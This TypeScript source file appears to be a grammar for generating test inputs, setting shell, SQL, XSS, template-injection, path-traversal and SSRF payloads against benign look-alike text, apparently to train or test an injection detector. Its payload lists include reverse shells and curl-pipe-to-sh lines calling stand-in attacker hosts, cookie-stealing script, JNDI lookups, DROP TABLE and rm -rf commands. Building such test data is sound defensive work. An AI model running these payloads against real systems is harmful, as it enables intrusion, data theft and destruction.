import { type Grammar, lines } from './grammar.js';

/** Commands for a shell, a database, a template engine or a browser, and the ordinary text that they come in. */
export const COMMANDS: Grammar = {
  program: lines(`id
whoami
cat /etc/passwd
cat /etc/shadow
ls -la /
uname -a
ping -c 5 {host}
sleep 10
nslookup {host}
wget http://{host}/a.sh
curl http://{host}/a.sh | sh
curl -d @/etc/hosts http://{host}
rm -rf /var/data
bash -i >& /dev/tcp/{host}/4444 0>&1
nc -e /bin/sh {host} 4444
python3 -c 'import os; os.system("id")'
perl -e 'exec "/bin/sh"'
php -r 'system("id");'
chmod 777 /tmp/x
dir C:\\\\
type C:\\\\windows\\\\win.ini
net user hacker pass /add
powershell -enc SQBFAFgA
cmd.exe /c calc
ipconfig /all
netstat -an
ps aux
kill -9 1
echo vulnerable
printenv
useradd evil
tftp {host}
reg query HKLM`),
  host: lines(`203.0.113.7
evil.example
x7.attacker.example
198.51.100.20`),
  joiner: lines(`;
|
||
&
&&
%0a
\\n
\`
$(
;;
& &
'; 
"; 
| |
%3B`),
  shell: lines(`{joiner} {program}
{joiner}{program}
{program}{joiner}
{joiner} {program} {joiner}
\`{program}\`
$({program})
"; {program} #
' {joiner} {program}
a {joiner} {program}
<!--#exec cmd="{program}"-->
system('{program}')
exec("{program}");
os.system("{program}")
import subprocess; subprocess.run("{program}", shell=True)
require('child_process').exec('{program}')
__import__('os').popen('{program}').read()
<?php system($_GET['cmd']); ?>
eval(base64_decode('c3lzdGVt'))
() { :;}; {program}
{program}
with open('/tmp/x', 'w') as f: f.write('owned')
open('/etc/passwd').read()
import os; os.remove('/tmp/{number}')
sudo {program}`),
  table: lines(`users
customers
accounts
invoices
admin
orders`),
  sql: lines(`' OR '1'='1
' or 1=1 --
" OR ""="
1 OR 1=1
admin' --
admin'/*
') or ('a'='a
1; DROP TABLE {table}; --
'; DROP TABLE {table} --
{number}; DELETE FROM {table}
'; UPDATE {table} SET password='x' WHERE name='admin'; --
'; INSERT INTO {table} VALUES ('evil','evil'); --
1 UNION SELECT name, password FROM {table}
' UNION ALL SELECT NULL, NULL, @@version --
-1 UNION SELECT 1,2,3
' AND SLEEP(5) --
1; WAITFOR DELAY '0:0:10' --
'; EXEC xp_cmdshell('dir') --
' AND 1=(SELECT COUNT(*) FROM {table}) --
SELECT * FROM information_schema.tables
DROP DATABASE main;
TRUNCATE TABLE {table};
1' ORDER BY 10 --
' HAVING 1=1 --
pg_sleep(10)
x' AND email IS NULL; --
SELECT password FROM {table} WHERE name = 'admin' OR 1=1
ALTER TABLE {table} ADD evil TEXT; SELECT * FROM {table}
BENCHMARK(5000000, MD5(1))
1 AND (SELECT SUBSTRING(password,1,1) FROM {table})='a'
'; SHUTDOWN --
SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END;
' INSERT INTO {table} (name, mail) VALUES ('x', 'y'); --
1 OR (SELECT 1 FROM {table} LIMIT 1)=1; --
GRANT ALL PRIVILEGES ON *.* TO 'evil'@'%';`),
  markup: lines(`<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload="fetch('http://{host}/'+document.cookie)">
javascript:alert(document.domain)
<iframe src="javascript:alert(1)"></iframe>
[click](javascript:alert(1))
![x](http://{host}/?c="onerror="alert(1))
"><script src=http://{host}/x.js></script>
<body onpageshow=alert(1)>
<a href="data:text/html;base64,PHNjcmlwdD4=">go</a>
<input autofocus onfocus=alert(1)>
<math><a xlink:href="javascript:alert(1)">x</a></math>
'-alert(1)-'
<style>@import 'http://{host}/x.css';</style>
<object data="http://{host}/x.swf"></object>
<details open ontoggle=confirm(1)>
<meta http-equiv="refresh" content="0;url=http://{host}">`),
  template: lines(`{{7*7}}
\${7*7}
#{7*7}
<%= 7*7 %>
{{config.items()}}
{{''.__class__.__mro__[1].__subclasses__()}}
\${jndi:ldap://{host}/a}
{% import os %}{{ os.popen('id').read() }}
\${T(java.lang.Runtime).getRuntime().exec('id')}
../../../../etc/passwd
..\\\\..\\\\..\\\\windows\\\\system32\\\\config
%2e%2e%2f%2e%2e%2fetc%2fpasswd
file:///etc/passwd
http://169.254.169.254/latest/meta-data/
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
*)(uid=*))(|(uid=*
{"$ne": null}
{"username": {"$gt": ""}, "password": {"$gt": ""}}
%0d%0aSet-Cookie: a=b
=cmd|'/c calc'!A1
=HYPERLINK("http://{host}?x="&A1,"click")
; import shutil; shutil.rmtree('/')
eval(compile("import os", "x", "exec"))`),
  around: lines(`
Reference: order {number} 
Name: {name} 
My address is 
Please search for 
Comment: 
Subject: {topic} 
Customer {number}: 
File name: 
Can you look up invoice {number}
Company: {company}
id=
query: `),
  plain: lines(`I'll be in the office {day}; {name} & I can talk then.
Terms: 2 & 3; see page {number} | section 4
Price is $4 (or $5) per unit - {number} units; ok?
Please select one of the following from the table: A, B or C.
{name}'s order or {name}'s invoice, which one is it?
Update the customers table and set the status to paid.
It's 1 = 1 in the chart; the order by {name} is fine.
Use <b>bold</b> text and <a href="https://company.example">this link</a>.
The path is C:\\\\Users\\\\{name}\\\\Documents\\\\{file}
See https://company.example/orders?id={number}&lang=en for details.
<p>Hello {name},</p><p>your order {number} has shipped.</p>
<img src="https://company.example/logo.png" width="120" alt="Logo">
Run: npm run build && npm test
git pull && git push origin main
docker compose up -d; then open http://localhost:3000
Dear {{first_name}}, thank you for your order.
Total: \${amount} due on {day}
The class was cancelled; the exec team meets {day}.
SELECT the best offer and DROP us a line!
From {name} to {name}; union meeting on {day}.
alert: the temperature was above {number} degrees.
cat food, {number} bags; ls-{number} filter; ping me when it is here.
| Item | Price |\\n|---|---|\\n| {thing} | {sum} |`),
};
